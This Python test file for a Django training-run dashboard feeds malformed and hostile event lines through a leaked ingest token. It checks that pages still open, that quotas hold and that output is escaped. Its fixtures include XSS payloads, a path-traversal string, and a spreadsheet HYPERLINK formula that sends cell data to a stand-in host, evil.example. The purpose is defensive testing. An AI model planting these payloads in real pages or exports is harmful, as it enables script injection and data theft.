"""A leaked ingest token: what it sends is stored or refused."""

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from dashboard.completions.models import CompletionBlock
from dashboard.operations.models import Quota, Use
from dashboard.operations.quotas import measure, quota_usage
from dashboard.runs.models import Run
from tests.abuse.test_every_page_is_strict import RAW
from tests.dashboard.api.asking import Program, make_token
from tests.dashboard.api.conftest import no_limits as no_limits
from tests.dashboard.api.test_external_runs import open_one, send_events
from tests.dashboard.completions.mismatches import mismatch
from tests.dashboard.supervision.logs import group

LARGE = 10**400
KEY = "0b6ac47e-7e2c-4a39-9f4e-1b1c2d3e4f50"
STEP = {"type": "step_finished", "metrics": {"loss": 0.5}}
GROUP = {"type": "group_scored", **group(0)}
GROUP["completions"] = [one.model_dump() for one in GROUP["completions"]]
COMPLETION = GROUP["completions"][0]
STARTED = {
    "type": "run_started", "step": 0, "num_steps": 10, "num_parameters": 1,
    "num_train_rows": 8, "num_eval_rows": 0, "device": "cpu", "versions": {},
}  # fmt: skip
EVALUATED = {
    "type": "evaluated", "name": "held-out", "num_prompts": 1,
    "samples_per_prompt": 1, "metrics": {"eval/held-out/mean": 0.5},
}  # fmt: skip
WARNED = {"type": "warned", "code": "odd", "message": "m"}
TOKENS = {
    "num_tokens": 1, "ids": [5], "pieces": ["a"], "special": [], "logprob": [-0.1],
    "sampling_logprob": None, "entropy": None, "kl": None, "ratio": None,
    "clipped": None, "advantage": None, "coefficient": None,
}  # fmt: skip
MEASURED = {
    "type": "tokens_measured", "prompt_index": 0, "completions": [TOKENS],
}  # fmt: skip

SUMS = {
    "num_tokens": [1], "sum": [0.1], "absolute": [0.1], "min": [0.1], "max": [0.1],
    "k3": [0.1],
}  # fmt: skip
GAPS = {"type": "mismatch_measured", **mismatch([[0.1]])}


def completion(**changes: Any) -> dict[str, Any]:
    return GROUP | {"completions": [COMPLETION | changes]}


LINES: dict[str, Any] = {
    **{f"step {step}": STEP | {"step": step} for step in (0, -1, 2**31, 2**63, LARGE)},
    "a metric without end": STEP | {"metrics": {"x": 1e308}},
    "a metric beyond": '{"type": "step_finished", "step": 1, "metrics": {"x": 1e400}}',
    "a metric of digits": STEP | {"metrics": {"x": LARGE}},
    "no metric": STEP | {"metrics": {}},
    "a name of NUL": STEP | {"metrics": {"a\0b": 1}},
    "a name of a surrogate": STEP | {"metrics": {"\ud800": 1}},
    "a name without end": STEP | {"metrics": {"x" * 10**6: 1}},
    "many names": STEP | {"metrics": {f"m{n}": 1 for n in range(2_001)}},
    "a prompt of NUL": GROUP | {"prompt": "a\0b", "answer": "\0"},
    "a prompt of a surrogate": GROUP | {"prompt": "\udfff"},
    "a prompt's number": GROUP | {"prompt_index": 2**31},
    "notes": GROUP | {"num_notes": 2**63},
    "a mean without end": GROUP | {"reward_mean": 1e308, "reward_std": -1e308},
    "no completion": GROUP | {"completions": []},
    "many completions": GROUP | {"completions": [COMPLETION] * 1_025},
    "a reward without end": completion(reward=1e308, advantage=-1e308),
    "tokens below none": completion(num_tokens=-1),
    "tokens without end": completion(num_tokens=2**31),
    "a rule's NUL": completion(rules={"\0": 1.0}, logs={"\0": "\0"}),
    "an error's NUL": completion(rules={"a": None}, errors={"a": "\0"}),
    "a rule without name": completion(rules={"": 1.0}),
    "rules that end alike": completion(rules={"x" * 41: 1.0, "x" * 40 + "y": 0.0}),
    "many rules": completion(rules={f"r{n}": 1.0 for n in range(65)}),
    "a note of no rule": completion(logs={"other": "x"}, errors={"other": "y"}),
    "a log without end": completion(logs={"answer": "x" * 10**6}),
    "parameters": STARTED | {"num_parameters": 2**64, "num_steps": -(2**40)},
    "a device of NUL": STARTED | {"device": "\0" * 999, "versions": {"\0": "\0"}},
    "steps without end": STARTED | {"num_steps": 2**63},
    "a resume": {**STARTED, "type": "run_resumed", "checkpoint": "../../etc/passwd"},
    "an evaluation of many": EVALUATED | {"num_prompts": 2**63, "name": "\0" * 300},
    "an evaluation of a long name": EVALUATED | {"name": "x" * 10**5},
    "an evaluation's metrics": EVALUATED | {"metrics": {"\0": 1, "x" * 999: 2}},
    "a warning of NUL": WARNED | {"code": "\0" * 100, "message": "\0"},
    "a warning without end": WARNED | {"code": "x" * 10**5, "message": "y" * 10**6},
    "a warning's number": WARNED | {"value": 1e308, "threshold": LARGE},
    "a phase": {
        "type": "phase_started", "step": 5, "name": "\0" * 999,
        "first_step": 9, "last_step": 2,
    },
    "tokens of none": MEASURED | {"prompt_index": 77},
    "tokens of more": MEASURED | {"completions": [TOKENS] * 50},
    "tokens of a number": MEASURED | {"completions": [TOKENS | {"num_tokens": -LARGE}]},
    "tokens of NUL": MEASURED | {"completions": [TOKENS | {"pieces": ["\0\ud800"]}]},
    "tokens beyond": MEASURED | {"completions": [TOKENS | {"special": [2**32 - 1]}]},
    "tokens' numbers": MEASURED | {"completions": [TOKENS | {"logprob": [1e308]}]},
    "gaps": GAPS,
    "gaps of another number": GAPS | {"sizes": [2], "prompts": [0]},
    "gaps without end": GAPS | {"sums": SUMS | {"sum": [1e308], "k3": [-1e308]}},
    "gaps without bins": GAPS | {"positions": SUMS},
    "gaps of many tokens": GAPS | {"gaps": [2**63] * 24},
    "gaps of a large age": GAPS | {"age": LARGE},
    "gaps of a prompt": GAPS | {"sizes": [1], "prompts": [2**31]},
    "nothing": "", "a null": "null", "a list": "[]", "half": '{"type":', "NUL": "\0",
    "deep": "[" * 200_000, "deep metrics": '{"metrics":' * 9_000,
    "no UTF-8": b"\xff\xfe{}", "no type": {"step": 1}, "a kind": {"type": "shutdown"},
    "a checkpoint": {
        "type": "checkpoint_saved", "step": 1, "name": "../../x",
        "sha256": "0" * 64, "num_bytes": 1,
    },
    "a pause": {
        "type": "run_paused", "step": 1, "reason": "r", "share": 1.0, "limit": 0.1,
        "faults": [], "checkpoint": None,
    },
    "a change": {"type": "settings_changed", "step": 1, "number": 1, "settings": {}},
    "no time": STEP | {"time": -5}, "a time beyond": STEP | {"time": 9e10},
    "another line": STEP | {"line": 5}, "another life": STEP | {"attempt": 2},
}  # fmt: skip
LAST: dict[str, Any] = {
    "a failure that says much": {
        "type": "run_failed", "step": 2**40, "error": "\0" * 10**6, "details": "\0",
    },
    "a failure": {"type": "run_failed", "error": "\x1b[2J" * 9_000, "details": "\0"},
    "a stop": {"type": "run_stopped", "checkpoint": "\0"},
}  # fmt: skip
PAGES = (
    *("", "metrics/", "groups/", "completions/", "prompts/", "health/", "reward-log/"),
    *(
        "logs/",
        "export/",
        "lineage/",
        "config/",
        "stream.json",
        "signals/map.json",
        "signals/rewards.json",
        "signals/rules.json",
    ),
)


def written(line: Any, number: int, step: int) -> bytes:
    if isinstance(line, dict):
        place = {"line": number, "attempt": 1, "time": 1.7e9, "step": step}
        line = json.dumps(place | line)
    return line if isinstance(line, bytes) else line.encode()


@pytest.fixture
def program(alice) -> Program:
    return Program(make_token(alice, "ingest"))


def test_any_line_gets_a_response_and_pages_still_open(program, alice_client):
    """An invalid line becomes a warning; a refused one would be sent forever."""
    run = open_one(program).json()["id"]
    number, waiting = 1, list[bytes]()

    for step, (kind, line) in enumerate(LINES.items(), start=1):
        if kind.startswith("tokens"):
            waiting.append(written(GROUP, number + len(waiting), step))
        waiting.append(written(line, number + len(waiting), step))
        if len(waiting) > 5 or len(waiting[-1]) > 10_000 or step == len(LINES):
            found = send_events(program, run, b"\n".join([*waiting, b""]), first=number)
            number += len(waiting)
            waiting = []
            answer = (found.status_code, found.json().get("line"))
            assert answer == (200, number - 1), kind

    assert_every_page_opens(alice_client, run)
    stored = Run.objects.get()
    assert stored.groups.count() > 5
    assert not any("\0" in name or len(name) > 120 for name in stored.metric_names)


def test_any_final_event_gets_a_response(program, alice_client):
    for kind, line in LAST.items():
        run = open_one(program).json()["id"]
        send_events(program, run, written(GROUP, 1, 1) + b"\n")

        found = send_events(program, run, written(line, 2, 1) + b"\n", first=2)

        assert found.status_code == 200, kind
        for page in ("", "logs/", "stream.json"):
            answer = alice_client.get(f"/alpha/runs/{run}/{page}")
            assert answer.status_code == 200, (kind, page)


def assert_every_page_opens(client: Client, run: int) -> None:
    for page in PAGES:
        answer = client.get(f"/alpha/runs/{run}/{page}")
        assert answer.status_code == 200, (page, answer.content[:300])


@pytest.fixture
def quota(team, alice) -> Quota:
    """One run at once, and 3,000 bytes."""
    Use.objects.create(team=team, parts={}, measured_at=timezone.now())
    return Quota.objects.create(team=team, max_runs=1, max_bytes=3_000)


@pytest.mark.usefixtures("quota")
def test_runs_over_the_quota_are_refused(program) -> None:
    run = open_one(program, key=KEY).json()["id"]

    more = open_one(program)
    again = open_one(program, key=KEY)

    assert (more.status_code, more.headers["Retry-After"]) == (429, "120")
    assert (again.status_code, again.json()["id"]) == (200, run)
    send_events(
        program, run, written({"type": "run_stopped", "checkpoint": None}, 1, 0)
    )
    assert open_one(program).status_code == 201
    ended = program.post(f"/external-runs/{run}/attempts", {"from_step": 0})
    assert ended.status_code == 429


def test_a_team_over_its_quota_gets_429_and_the_trainer_retries(
    program, quota, alice_client
):
    run = open_one(program).json()["id"]
    long = written(GROUP | {"prompt": "x" * 2_000}, 1, 1)
    more = written(GROUP | {"prompt": "x" * 2_000}, 2, 2)

    taken = send_events(program, run, long)
    refused = send_events(program, run, more, first=2)
    beat = send_events(program, run, b"", first=2)

    assert [taken.status_code, refused.status_code, beat.status_code] == [200, 429, 200]
    assert "2.93 KiB" in refused.json()["detail"].replace("\xa0", " ")
    assert Run.objects.get().groups.count() == 1
    assert alice_client.get("/alpha/settings/storage").status_code == 200
    Quota.objects.update(max_bytes=10_000)
    assert send_events(program, run, more, first=2).status_code == 200
    # Its texts are counted once, and not after their deletion.
    sizes = {"num_completions": 4, "num_chars": 9, "num_bits": 0}
    CompletionBlock.objects.create(
        run=Run.objects.get(), first_step=1, last_step=2, **sizes
    )
    assert measure(quota.team).parts["completions"] == 0
    assert quota_usage(quota.team).parts["outside"] == len(long) + len(more)
    Run.objects.update(completions_deleted_at=timezone.now())
    assert quota_usage(quota.team).parts["outside"] == 0


def test_a_huge_group_is_truncated_on_its_page(program, alice_client):
    run = open_one(program).json()["id"]
    texts = ["x" * 3_000_000, "y" * 3_000_000, "short"]
    data = GROUP | {"completions": [COMPLETION | {"text": text} for text in texts]}
    send_events(program, run, written(data, 1, 1) + b"\n")

    for view in ("text", "rendered", "tokens"):
        page = alice_client.get(f"/alpha/runs/{run}/groups/1/0/?view={view}").text

        assert len(page) < 4_500_000, view
        assert "short" in page
    page = alice_client.get(f"/alpha/runs/{run}/groups/1/0/").text
    assert page.count("1,398,101 of 3,000,000") == 2


EVIL = (
    "<script>evil()</script><img src=x onerror=evil()>[evil](javascript:evil())"
    "'\"{{7919*7919}}\x1b[2J\u202e"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
ADDRESSES = (
    *PAGES[:11], "signals/map.json", "signals/rules.json", "stream.json",
    "groups/1/0/", "prompts/0/", "config.toml",
)  # fmt: skip


@pytest.fixture
def evil_run(program) -> int:
    """A run whose names are all hostile."""
    named = {
        "name": EVIL[:80], "tool": EVIL[:40], "version": EVIL[:40], "model": EVIL,
        "host": EVIL[:120], "notes": EVIL, "settings": {EVIL: EVIL},
        "rules": {EVIL[:40]: 1.0, FORMULA[:40]: 1.0}, "tags": ["<img src=x>"],
    }  # fmt: skip
    run: int = open_one(program, **named).json()["id"]
    rules = {EVIL[:40]: 1.0, FORMULA[:40]: 0.5}
    data = COMPLETION | {"text": EVIL, "rules": rules, "logs": {EVIL[:40]: EVIL}}
    formula = COMPLETION | {"text": FORMULA, "rules": rules, "reward": 0.25}
    reported = GROUP | {
        "prompt": EVIL,
        "answer": FORMULA,
        "completions": [data, formula],
    }
    lines = [
        STARTED | {"device": EVIL, "versions": {EVIL: EVIL}},
        reported,
        MEASURED | {"completions": [TOKENS | {"pieces": [EVIL]}] * 2},
        STEP | {"metrics": {EVIL[:120]: 1.0, FORMULA: 0.5, "reward/mean": 0.5}},
        EVALUATED | {"name": EVIL[:80], "metrics": {f"eval/{EVIL[:80]}/mean": 1.0}},
        WARNED | {"code": EVIL[:40], "message": EVIL},
        {"type": "run_failed", "error": EVIL, "details": EVIL},
    ]
    body = b"\n".join(written(each, n, 1) for n, each in enumerate(lines, start=1))
    assert send_events(program, run, body + b"\n").json()["state"] == "failed"
    assert Run.objects.get().groups.count() == 1
    return run


def test_names_sent_by_a_trainer_are_escaped(evil_run, alice_client):
    at = f"/alpha/runs/{evil_run}/"
    pages = [*(at + page for page in ADDRESSES), "/alpha/runs/", "/alpha/alerts/"]
    pages += [f"/alpha/compare?runs={evil_run}", "/alpha/audit-log/", "/alpha/prompts/"]
    num_seen = 0

    for page in pages:
        answer = alice_client.get(page)
        assert answer.status_code in (200, 404), page
        if answer.headers["Content-Type"].startswith("text/html"):
            found = RAW.search(answer.text)
            assert found is None, (
                page,
                answer.text[max(0, found.start() - 80) :][:200],
            )
            num_seen += "evil()" in answer.text
    assert num_seen > 12


def test_no_csv_cell_of_an_external_run_is_a_formula(evil_run, alice_client):
    cells = []
    for name in ("metrics", "completions"):
        answer: Any = alice_client.get(f"/alpha/runs/{evil_run}/export/{name}.csv")
        text = b"".join(answer).decode("utf-8-sig")
        cells += [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    assert f"'{FORMULA}" in cells
    assert not [c for c in cells if c[:1] in tuple("=@\t\r") or c.startswith("+")]
